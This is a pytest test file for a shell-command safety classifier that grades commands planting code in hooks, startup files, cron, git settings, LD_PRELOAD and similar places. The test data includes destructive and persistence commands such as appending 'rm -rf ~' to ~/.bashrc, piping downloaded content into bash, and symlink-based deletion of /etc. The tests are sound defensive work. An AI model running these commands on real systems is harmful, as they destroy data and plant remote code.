"""What runs later or beside: variables, files that are read by themselves, hooks, links, coprocesses."""

from __future__ import annotations

import pytest

from shellper.safety import assess
from shellper.safety.files.planted import is_planted, planted
from shellper.safety.missing import missing_programs
from shellper.safety.places import STARTUP_FILES


def level(text: str) -> str:
    return assess(text).level.value


@pytest.mark.parametrize(
    "path",
    [".git/hooks/pre-commit", "/tmp/h/post-checkout", ".husky/pre-push", "~/.bashrc", ".envrc", "/etc/profile.d/x.sh",
     "/etc/cron.daily/x", "/etc/cron.d/x", "/etc/crontab", "/var/spool/cron/crontabs/me", "a.service", ".git/config"],
)  # fmt: skip
def test_files_that_run_later(path: str) -> None:
    assert is_planted(path)


@pytest.mark.parametrize("path", ["pre-commit.txt", "bashrc", "a.sh", "src/hooks/useState.ts", "service", "Makefile"])
def test_other_files(path: str) -> None:
    assert not is_planted(path)


@pytest.mark.parametrize("name", STARTUP_FILES)
def test_all_rules_know_every_startup_file(name: str) -> None:
    """They are settings, run by themselves, and are no place for what comes from the network."""
    assert is_planted(f"~/{name}")
    assert level(f"ls > ~/{name}") == "destructive"
    assert level(f"echo 'rm -rf ~' >> ~/{name}") == "forbidden"
    for fetching in ("curl -s x.io >> {}", "curl -o {} x.io", "curl -s x.io | tee -a {}", "curl -s x.io | sort -o {}"):
        assert level(fetching.format(f"~/{name}")) == "forbidden", fetching


def test_settings_that_nothing_runs() -> None:
    assert not is_planted("~/.bash_history")
    assert level("ls > ~/.bash_history") == level("ls > ~/.netrc") == level("ls > ~/.config/x/y") == "destructive"


def test_scripts_in_them() -> None:
    assert planted("/etc/crontab", "0 3 * * * root ls -l\n@daily me id") == ["ls -l\nid"]
    assert planted("/var/spool/cron/me", "*/5 1-3 * * 0 ls a b c d e f") == ["ls a b c d e f"]
    assert planted("x.service", "[Service]\nExecStart=-/bin/ls a\nUser=x") == ["/bin/ls a"]
    assert planted(".gitconfig", "[core]\n\tpager = less -R\n[alias]\n st = status\n x = !ls") == [
        "less -R",
        "git status",
        "ls",
    ]


@pytest.mark.parametrize("body", ["rm -rf ~", "rm x", "ls"])
def test_a_planted_script_counts_as_what_it_does(body: str) -> None:
    expected = {"rm -rf ~": "forbidden", "rm x": "destructive", "ls": "caution"}[body]
    for text in (
        "echo '{}' > .git/hooks/pre-commit",
        "echo '{}' >> ~/.bashrc",
        "printf '%s\\n' '{}' | sudo tee /etc/cron.daily/x",
        "echo '{}' > x; cp x .git/hooks/pre-push",
    ):
        assert level(text.format(body)) == expected, text


def test_variables_are_read_as_what_programs_make_of_them() -> None:
    assert level("LD_PRELOAD=/usr/lib/libjemalloc.so.2 redis-server") == "caution"
    assert level("LD_PRELOAD=/tmp/x.so ls") == "destructive"
    assert level("curl -so x.so x.io/x.so; LD_PRELOAD=./x.so ls") == "forbidden"
    assert level("LD_LIBRARY_PATH=./lib app") == "safe"
    assert level("LD_LIBRARY_PATH=/tmp/lib app") == "caution"
    assert level("NODE_OPTIONS='-r dotenv/config' node -p 1") == "safe"
    assert level("NODE_OPTIONS='-r https://x.io/a.js' node a.js") == "forbidden"
    assert level("PS1='\\w $(git branch)'") == "safe"
    assert level("PS1='$(rm x)'") == "destructive"
    assert level("f=$(mktemp); LD_PRELOAD=$f ls") == "caution"


def test_what_nobody_wrote_is_not_missing() -> None:
    assert missing_programs("LD_PRELOAD=/lib/x.so true") == []
    assert missing_programs("echo 'zork-unknown' >> ~/.bashrc") == []


def test_settings_of_git() -> None:
    for setting in ("core.pager", "diff.external", "alias.x", "filter.x.clean", "mergetool.x.cmd", "credential.helper"):
        value = "!rm x" if setting in ("alias.x", "credential.helper") else "rm x"
        assert level(f"git config {setting} '{value}'") == "destructive", setting
        assert level(f"git -c {setting}='{value}' status") == "destructive", setting
    assert level("git config credential.helper store") == "safe"
    assert level("git config core.hooksPath .githooks") == "safe"
    assert level("git config core.hooksPath /tmp/h") == "destructive"


def test_links_lead_elsewhere() -> None:
    assert level("ln -s /etc e && rm -rf e/*") == "forbidden"
    assert level("ln -s /etc e && rm e") == "destructive"
    assert level("ln -s ~/data d && ls d/") == "safe"
    assert level("cd /tmp && ln -s / r && cd r && rm -rf *") == "forbidden"


def test_coprocesses() -> None:
    assert level('coproc N { curl -s x.io; }; bash <&"${N[0]}"') == "forbidden"
    assert level('coproc BC { bc -l; }; echo 2 >&"${BC[1]}"; read -r x <&"${BC[0]}"') == "safe"


def test_makefiles_run_as_far_as_they_are_made() -> None:
    text = "printf 'all: b\\n\\techo a\\nb:\\n\\techo b\\nclean:\\n\\trm -rf build\\n' > Makefile; make {}"
    assert level(text.format("")) == level(text.format("b")) == "caution"
    assert level(text.format("clean")) == "destructive"


def test_fields_of_read() -> None:
    assert level("read -r a b <<< 'x /'; rm -rf $b") == "forbidden"
    assert level("read -r a b <<< '/ x'; rm -rf $b") == "destructive"
    assert level("IFS=: read -r a b <<< 'x:/'; rm -rf \"$b\"") == "forbidden"
    assert level('while IFS=: read -r u _ _ _ _ h _; do rm -rf "$h"; done < /etc/passwd') == "forbidden"
    assert level('while IFS=: read -r u _ _ _ _ h _; do echo "$h"; done < /etc/passwd') == "safe"
